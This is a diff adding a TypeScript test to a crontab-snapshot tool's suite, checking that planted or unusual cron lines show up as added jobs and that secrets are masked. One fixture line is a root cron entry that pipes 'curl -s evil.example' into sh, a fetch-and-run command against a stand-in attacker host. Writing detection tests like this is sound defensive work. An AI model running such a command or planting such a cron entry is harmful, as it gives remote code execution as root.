@@ -217,6 +217,15 @@ describe('snapshot differences', () => {
   const snap = (text: string) => snapshotJobs('/etc/crontab', null, parseCrontab(text, 'system'));
   const before = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n');
 
+  it('sees a line Cronbeat cannot read as a job but some cron runs (Debian runs 5/20 at :05), as it is written, with its user', () => {
+    const planted = snap('0 3 * * * root /backup.sh --password=a\n*/5 * * * * www /poll.sh\n5/20 * * * * root curl -s evil.example | sh\n@DAILY nobody /x.sh --token=abc\n');
+    expect(diffSnapshots(before, planted).map((c) => [c.kind, c.user, c.text])).toEqual([
+      ['added', 'root', '5/20 * * * * root curl -s evil.example | sh'],
+      ['added', 'nobody', '@DAILY nobody /x.sh --token=***'],
+    ]);
+    expect(snapshotJobs('crontab -l', 'alice', parseCrontab('0 0 * * mon-sun /weekly.sh\n', 'user')).map((job) => [job.user, job.text])).toEqual([['alice', '0 0 * * mon-sun /weekly.sh']]);
+  });
+
   it('sees an edited line as one altered job, masked', () => {
     expect(diffSnapshots(before, snap('0 3 * * * root /backup.sh --password=b\n*/5 * * * * www /poll.sh\n'))).toEqual([
       { kind: 'altered', user: 'root', text: '0 3 * * * /backup.sh --password=***', previous: '0 3 * * * /backup.sh --password=***' },
